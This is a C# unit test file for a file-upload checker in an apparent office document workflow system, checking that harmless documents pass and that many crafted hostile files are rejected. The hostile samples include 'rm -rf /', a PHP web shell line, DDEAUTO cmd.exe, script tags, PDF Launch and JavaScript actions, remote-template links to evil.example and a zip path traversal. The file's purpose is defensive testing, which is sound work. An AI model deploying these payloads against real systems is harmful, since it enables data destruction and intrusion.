using System.Globalization;
using System.Text;
using WorkflowAccountability.Procedure.Documents;
using WorkflowAccountability.Procedure.Documents.Checks;
using WorkflowAccountability.Procedure.Regulation;

namespace WorkflowAccountability.Procedure.Tests.Documents;

public sealed class FileCheckTests
{
    private static readonly Dictionary<string, (byte[] Content, FileKind Kind)> harmless = new()
    {
        ["报告.pdf"] = (Made.Pdf(), FileKind.Pdf),
        ["更新过.pdf"] = (Made.Joined(Made.Pdf(), Made.Latin("2 0 obj <</Type /Page>> endobj\n%%EOF\r\n")), FileKind.Pdf),
        ["压缩对象.pdf"] = (Made.PdfWithObjectStream("1 0 <</Type /Page /AA 5 0 R>>"), FileKind.Pdf),
        ["函.docx"] = (Made.Docx(), FileKind.Docx),
        ["带链接.docx"] = (Made.Docx(("word/_rels/document.xml.rels", Made.Relations("hyperlink", "http://evil.example"))), FileKind.Docx),
        ["带图表.pptx"] = (Made.Office(Made.SlidesMain, ("ppt/embeddings/Sheet1.xlsx", Made.Office(Made.SheetMain))), FileKind.Pptx),
        ["台账.xlsx"] = (Made.Office(Made.SheetMain), FileKind.Xlsx),
        ["批复.ofd"] = (Made.Ofd(), FileKind.Ofd),
        ["旧文.doc"] = (Made.Word(), FileKind.Doc),
        ["金山.wps"] = (Made.Word(), FileKind.Doc),
        ["旧表.xls"] = (Made.Workbook((0x809, new byte[16]), (0x85, new byte[10])), FileKind.Xls),
        ["照片.JPG"] = (Made.Jpeg(), FileKind.Jpeg),
        ["扫描.png"] = (Made.Png(), FileKind.Png),
        ["图.webp"] = (Made.WebP(), FileKind.WebP),
        ["传真.tif"] = (Made.Tiff(), FileKind.Tiff),
        ["监测.csv"] = (Made.Text("断面,日期,氨氮\n某断面,2026-03-02,1.8\n"), FileKind.Csv),
        ["笔录.txt"] = (Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("问：……\r\n答：𠮷先生。")).ToArray(), FileKind.Text),
        ["国标.txt"] = (CodePagesEncodingProvider.Instance.GetEncoding("GB18030")!.GetBytes("玛纳斯河断面𬭚超标"), FileKind.Text),
    };

    private static readonly Dictionary<string, (byte[] Content, FileFault Fault)> hostile = new()
    {
        ["empty.pdf"] = ([], FileFault.Empty),
        ["program.exe"] = (Made.Latin("MZ\u0090\0program"), FileFault.Executable),
        ["program under a picture's name.jpg"] = (Made.Latin("MZ\u0090\0program"), FileFault.Executable),
        ["program under a text's name.txt"] = (Made.Latin("MZ\u0090\0program"), FileFault.Executable),
        ["elf.pdf"] = (Made.Latin("\u007fELF\u0002\u0001"), FileFault.Executable),
        ["shell.txt"] = (Made.Text("#!/bin/sh\nrm -rf /"), FileFault.Executable),
        ["link.txt"] = ([0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0], FileFault.Executable),
        ["java.doc"] = ([0xCA, 0xFE, 0xBA, 0xBE, 0, 0], FileFault.Executable),
        ["archive.zip"] = (Made.Zip(("a.txt", Made.Text("a"))), FileFault.Archive),
        ["archive.docx"] = (Made.Zip(("a.txt", Made.Text("a"))), FileFault.Archive),
        ["archive.pdf"] = (Made.Zip(("a.txt", Made.Text("a"))), FileFault.Archive),
        ["archive.rar"] = (Made.Latin("Rar!\u001a\u0007\u0001\0"), FileFault.Archive),
        ["archive.7z"] = ([(byte)'7', (byte)'z', 0xBC, 0xAF, 0x27, 0x1C], FileFault.Archive),
        ["archive.gz.csv"] = ([0x1F, 0x8B, 8, 0], FileFault.Archive),
        ["page.html"] = (Made.Text("<!DOCTYPE html><p>"), FileFault.ActiveContent),
        ["page.txt"] = (Made.Text("\uFEFF  <html><script>alert(1)</script>"), FileFault.ActiveContent),
        ["page in UTF-16.txt"] = ([0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html>")], FileFault.ActiveContent),
        ["drawing.svg"] = (Made.Text("<svg/>"), FileFault.ActiveContent),
        ["drawing.png"] = (Made.Text("<svg onload='x()'/>"), FileFault.ActiveContent),
        ["script further down.csv"] = (Made.Text("a,b\n1,<ScRiPt>x</script>\n"), FileFault.ActiveContent),
        ["page.doc"] = (Made.Text("<html xmlns:o='urn:schemas-microsoft-com:office:office'>"), FileFault.ActiveContent),
        ["rich.doc"] = (Made.Text("{\\rtf1\\object}"), FileFault.ActiveContent),
        ["picture.docx"] = (Made.Png(), FileFault.Mismatch),
        ["sheet.docx"] = (Made.Office(Made.SheetMain), FileFault.Mismatch),
        ["letter.pdf"] = (Made.Docx(), FileFault.Mismatch),
        ["ofd.docx"] = (Made.Ofd(), FileFault.Mismatch),
        ["workbook.doc"] = (Made.Workbook(), FileFault.Mismatch),
        ["installer.doc"] = (Made.Compound(("!_Tables", new byte[8])), FileFault.Mismatch),
        ["unknown.dat"] = (Made.Text("data"), FileFault.Unknown),
        ["noextension"] = (Made.Text("data"), FileFault.Unknown),
        ["two endings.pdf.exe"] = (Made.Pdf(), FileFault.Unknown),
        ["macro.docx"] = (Made.Docx(("word/vbaProject.bin", [1, 2, 3])), FileFault.Macro),
        ["declared macro.xlsx"] = (Made.Office("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), FileFault.Macro),
        ["macro sheet.xlsx"] = (Made.Office(Made.SheetMain, ("xl/macrosheets/sheet1.xml", Made.Text("<m/>"))), FileFault.Macro),
        ["activex.docx"] = (Made.Docx(("word/activeX/activeX1.xml", Made.Text("<a/>"))), FileFault.Macro),
        ["macro.doc"] = (Made.Word(("_VBA_PROJECT", new byte[8])), FileFault.Macro),
        ["macro sheet.xls"] = (Made.Workbook((0x809, new byte[16]), (0x85, [0, 0, 0, 0, 0, 1, 0, 0])), FileFault.Macro),
        ["macro inside a chart's table.pptx"] = (Made.Office(Made.SlidesMain,
            ("ppt/embeddings/Sheet1.xlsx", Made.Office(Made.SheetMain, ("xl/vbaProject.bin", [1])))), FileFault.Macro),
        ["object.docx"] = (Made.Docx(("word/embeddings/oleObject1.bin", Made.Compound(("Package", new byte[8])))), FileFault.Embedded),
        ["object.doc"] = (Made.Word(("\u0001Ole10Native", new byte[8])), FileFault.Embedded),
        ["equation.doc"] = (Made.Word(("Equation Native", new byte[8])), FileFault.Embedded),
        ["program inside.docx"] = (Made.Docx(("word/media/image1.png", Made.Latin("MZ\u0090\0"))), FileFault.Executable),
        ["program inside.ofd"] = (Made.Ofd(("Doc_0/Attachs/a.exe", Made.Latin("MZ\u0090\0"))), FileFault.Executable),
        ["archive inside.docx"] = (Made.Docx(("word/media/a.png", Made.Zip(("x", [1])))), FileFault.Archive),
        ["page inside.ofd"] = (Made.Ofd(("Doc_0/Res/a.svg", Made.Text("<svg/>"))), FileFault.ActiveContent),
        ["template from elsewhere.docx"] = (Made.Docx(
            ("word/_rels/settings.xml.rels", Made.Relations("attachedTemplate", "http://evil.example/t.dotm"))), FileFault.External),
        ["object from elsewhere.docx"] = (Made.Docx(("word/_rels/document.xml.rels", Made.Relations("oleObject", "mhtml:http://evil.example/x"))), FileFault.External),
        ["dynamic data.docx"] = (Made.Docx(("word/document.xml", Made.Text("<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"))), FileFault.External),
        ["entities.docx"] = (Made.Docx(("word/document.xml", Made.Text("<!DOCTYPE d [<!ENTITY a 'x'>]><d/>"))), FileFault.External),
        ["password.docx"] = (Made.Compound(("EncryptedPackage", new byte[8]), ("EncryptionInfo", new byte[8])), FileFault.Encrypted),
        ["password.doc"] = (Made.Compound(("WordDocument", [0xEC, 0xA5, 0xC1, 0, 0, 0, 0, 0, 0, 0, 0, 1])), FileFault.Encrypted),
        ["password.xls"] = (Made.Workbook((0x809, new byte[16]), (0x2F, new byte[6])), FileFault.Encrypted),
        ["password.pdf"] = (Made.Pdf(trailer: "/Root 1 0 R /Encrypt 5 0 R"), FileFault.Encrypted),
        ["script.pdf"] = (Made.Pdf("1 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj"), FileFault.PdfAction),
        ["escaped script.pdf"] = (Made.Pdf("1 0 obj <</S/J#61v#61Script /JS (x)>> endobj"), FileFault.PdfAction),
        ["script in a compressed object.pdf"] = (Made.PdfWithObjectStream("1 0 <</S /JavaScript /JS (x)>>"), FileFault.PdfAction),
        ["launch.pdf"] = (Made.Pdf("1 0 obj <</OpenAction <</S /Launch /F (cmd.exe)>>>> endobj"), FileFault.PdfAction),
        ["form that sends.pdf"] = (Made.Pdf("1 0 obj <</S /SubmitForm /F (http://evil.example)>> endobj"), FileFault.PdfAction),
        ["form in XML.pdf"] = (Made.Pdf("1 0 obj <</AcroForm <</XFA 3 0 R>>>> endobj"), FileFault.PdfAction),
        ["attachment.pdf"] = (Made.Pdf("1 0 obj <</Type /EmbeddedFile>> endobj"), FileFault.Embedded),
        ["objects under another filter.pdf"] = (Made.PdfWithObjectStream("1 0 <</S /JavaScript>>", "[/ASCIIHexDecode /FlateDecode]"), FileFault.Damaged),
        ["objects that unpack for ever.pdf"] = (Made.PdfWithObjectStream(new string(' ', 140 << 20)), FileFault.Bomb),
        ["archive behind.pdf"] = (Made.Joined(Made.Pdf(), Made.Zip(("a.exe", [1]))), FileFault.Polyglot),
        ["cut short.pdf"] = (Made.Pdf()[..40], FileFault.Polyglot),
        ["archive behind.png"] = (Made.Joined(Made.Png(), Made.Zip(("a.exe", [1]))), FileFault.Polyglot),
        ["archive behind.jpg"] = (Made.Joined(Made.Jpeg(), Made.Zip(("a.exe", [1]))), FileFault.Polyglot),
        ["page in a comment.jpg"] = (Made.Jpeg(comment: Made.Text("<script>x()</script>")), FileFault.Polyglot),
        ["code in a comment.jpg"] = (Made.Jpeg(comment: Made.Text("<?php system($_GET['c']);")), FileFault.Polyglot),
        ["archive behind.txt"] = (Made.Joined(Made.Text("正文\n"), Made.Zip(("a.exe", [1]))), FileFault.NotText),
        ["program before.docx"] = (Made.Joined(Made.Latin("MZ"), Made.Docx()), FileFault.Executable),
        ["page behind.docx"] = (Made.Joined(Made.Docx(), Made.Text("<html>")), FileFault.Polyglot),
        ["more behind.webp"] = (Made.Joined(Made.WebP(), [1, 2, 3, 4]), FileFault.Polyglot),
        ["cut short.webp"] = (Made.WebP(less: -40), FileFault.Damaged),
        ["cut short.png"] = (Made.Png()[..40], FileFault.Damaged),
        ["cut short.jpg"] = (Made.Jpeg()[..14], FileFault.Damaged),
        ["cut short.docx"] = (Made.Docx()[..200], FileFault.Damaged),
        ["cut short.doc"] = (Made.Word()[..1000], FileFault.Damaged),
        ["leads nowhere.tif"] = (Made.Tiff(first: 200), FileFault.Damaged),
        ["out of its folder.docx"] = (Made.Docx(("../../etc/passwd", [1])), FileFault.Damaged),
        ["one name twice.docx"] = (Made.Docx(("word/a.xml", Made.Text("<a/>")), ("WORD/A.xml", Made.Text("<a/>"))), FileFault.Damaged),
        ["unpacks for ever.docx"] = (Made.Docx(("word/document.xml", new byte[64 << 20])), FileFault.Bomb),
        ["fills the memory.png"] = (Made.Png(100_000, 100_000), FileFault.Bomb),
        ["fills the memory.jpg"] = (Made.Jpeg(side: 65_000), FileFault.Bomb),
        ["binary.txt"] = ([0, 1, 2, 3, 0, 0xFF], FileFault.NotText),
        ["control characters.csv"] = (Made.Text("a,\u001b[31mb\n"), FileFault.NotText),
    };

    public static TheoryData<string> EveryHarmlessFile => [.. harmless.Keys];

    public static TheoryData<string> EveryHostileFile => [.. hostile.Keys];

    [Theory]
    [MemberData(nameof(EveryHarmlessFile))]
    public void What_offices_send_each_other_comes_in(string name) => Check(harmless[name].Content, name).ShouldBe(new Finding(harmless[name].Kind, null));

    [Theory]
    [MemberData(nameof(EveryHostileFile))]
    public void What_could_harm_a_reader_stays_out_and_hears_why(string name) =>
        Check(hostile[name].Content, name).ShouldBe(new Finding(null, hostile[name].Fault));

    [Fact]
    public void No_cut_of_a_harmless_file_breaks_the_check()
    {
        foreach (var (name, (content, _)) in harmless)
            for (var length = 1; length < content.Length; length += 1 + (content.Length / 97))
                Should.NotThrow(() => Check(content[..length], name), $"{name} cut at {length}");
    }

    [Fact]
    public void No_changed_byte_of_a_harmless_file_breaks_the_check()
    {
        var chance = new Random(59);
        foreach (var (name, (content, _)) in harmless)
            for (var round = 0; round < 100; round++)
            {
                var changed = content.ToArray();
                changed[chance.Next(changed.Length)] = (byte)chance.Next(256);
                Should.NotThrow(() => Check(changed, name), name);
            }
    }

    [Fact]
    public void Every_fault_is_told_with_reason_and_remedy_in_both_languages() =>
        Enum.GetNames<FileFault>().SelectMany(fault => new[] { $"{fault}.Reason", $"{fault}.Remedy" })
            .SelectMany(key => new[] { CultureInfo.InvariantCulture, CultureInfo.GetCultureInfo("en") }
                .Where(culture => !Text.Exists(typeof(DocumentTexts), key, culture)).Select(culture => $"{key} {culture}"))
            .ShouldBeEmpty();

    private static Finding Check(byte[] content, string name)
    {
        using var stream = new MemoryStream(content);
        return FileCheck.Check(stream, name);
    }
}
